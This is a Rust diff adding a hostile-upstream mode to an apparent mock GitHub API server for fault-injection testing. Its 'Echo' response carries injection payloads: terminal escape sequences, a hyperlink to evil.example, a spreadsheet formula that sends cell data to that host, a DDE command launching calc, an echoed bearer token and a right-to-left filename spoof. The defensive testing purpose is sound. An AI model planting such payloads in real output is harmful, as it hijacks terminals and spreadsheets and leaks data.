@@ -26,7 +26,7 @@ use serde_json::{Value as Json, json};
 use tokio::sync::oneshot;
 use tokio::task::JoinHandle;
 
-use crate::faults::{Faults, Latency, count_objects};
+use crate::faults::{Faults, Hostile, Latency, count_objects};
 use crate::graphql::{self, RateInfo};
 use crate::push::{ChangeSpec, PushResult, PushSpec};
 use crate::state::{Accounting, Budget, FaultAction, State, Tags};
@@ -225,6 +225,92 @@ fn dropped() -> Response {
     r
 }
 
+/// The answer of a hostile upstream (see [`crate::faults::Hostile`]).
+fn hostile(h: Hostile, route: &str, github: bool, token: Option<&str>) -> Response {
+    let graphql = route == "graphql";
+    let streamed = |stream: Body, length: Option<u64>| {
+        let mut r = Response::new(stream);
+        r.headers_mut().insert(
+            header::CONTENT_TYPE,
+            HeaderValue::from_static("application/json; charset=utf-8"),
+        );
+        if let Some(n) = length {
+            r.headers_mut().insert(header::CONTENT_LENGTH, hv(n));
+        }
+        r
+    };
+    match h {
+        Hostile::Malformed => json_text(StatusCode::OK, "{\"data\": {\"repo".into()),
+        Hostile::DataNull => json_text(
+            StatusCode::OK,
+            if graphql { "{\"data\": null}" } else { "null" }.into(),
+        ),
+        Hostile::Empty => json_text(StatusCode::OK, "{}".into()),
+        Hostile::Huge => {
+            // 300 chunks of a megabyte of spaces inside a JSON string.
+            let chunk = Bytes::from(vec![b' '; 1 << 20]);
+            let stream = futures_util::stream::iter(
+                std::iter::once(Bytes::from_static(b"{\"padding\": \""))
+                    .chain(std::iter::repeat_n(chunk, 300))
+                    .chain(std::iter::once(Bytes::from_static(b"\"}")))
+                    .map(Ok::<Bytes, std::io::Error>),
+            );
+            streamed(Body::from_stream(stream), None)
+        }
+        Hostile::Trickle => {
+            let stream = futures_util::stream::unfold(true, |first| async move {
+                if !first {
+                    tokio::time::sleep(StdDuration::from_millis(100)).await;
+                }
+                let piece = if first {
+                    &b"{\"data\": "[..]
+                } else {
+                    &b" "[..]
+                };
+                Some((
+                    Ok::<Bytes, std::io::Error>(Bytes::from_static(piece)),
+                    false,
+                ))
+            });
+            streamed(Body::from_stream(stream), Some(1 << 20))
+        }
+        Hostile::Endless => {
+            let chunk = Bytes::from(vec![b' '; 64 << 10]);
+            let stream = futures_util::stream::iter(
+                std::iter::once(Bytes::from_static(b"{\"data\": \""))
+                    .chain(std::iter::repeat(chunk))
+                    .map(Ok::<Bytes, std::io::Error>),
+            );
+            streamed(Body::from_stream(stream), None)
+        }
+        Hostile::ExtremeWait => {
+            let status = if graphql || !github {
+                StatusCode::TOO_MANY_REQUESTS
+            } else {
+                StatusCode::FORBIDDEN
+            };
+            let mut r = json_response(
+                status,
+                &json!({"message": "API rate limit exceeded", "errors": [{"type": "RATE_LIMITED", "message": "rate limit"}]}),
+            );
+            let h = r.headers_mut();
+            h.insert(header::RETRY_AFTER, hv(i64::MAX));
+            h.insert("x-ratelimit-remaining", hv(0));
+            h.insert("x-ratelimit-reset", hv(i64::MAX));
+            r
+        }
+        Hostile::Echo => {
+            let echoed = token.map_or(String::new(), |t| format!("bearer {t}"));
+            let text = format!(
+                "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]8;;http://evil.example/\u{7}click\u{1b}]8;;\u{7} \
+                 your authorization was: {echoed} =HYPERLINK(\"http://evil.example/?\"&A1) \
+                 +cmd|' /C calc'!A0 @SUM(1) \u{202e}txt.exe"
+            );
+            json_response(StatusCode::BAD_GATEWAY, &json!({ "message": text }))
+        }
+    }
+}
+
 /// Cut a body in half so it no longer parses.
 fn malformed(body: &str) -> String {
     let cut = body.len() / 2;
@@ -317,6 +403,10 @@ impl Ctx {
             FaultAction::None => (None, false),
             FaultAction::Malformed => (None, true),
             FaultAction::Drop => (Some(dropped()), false),
+            FaultAction::Hostile(h) => (
+                Some(hostile(h, self.route, self.github, self.token.as_deref())),
+                false,
+            ),
             FaultAction::Error(code) => {
                 let status =
                     StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
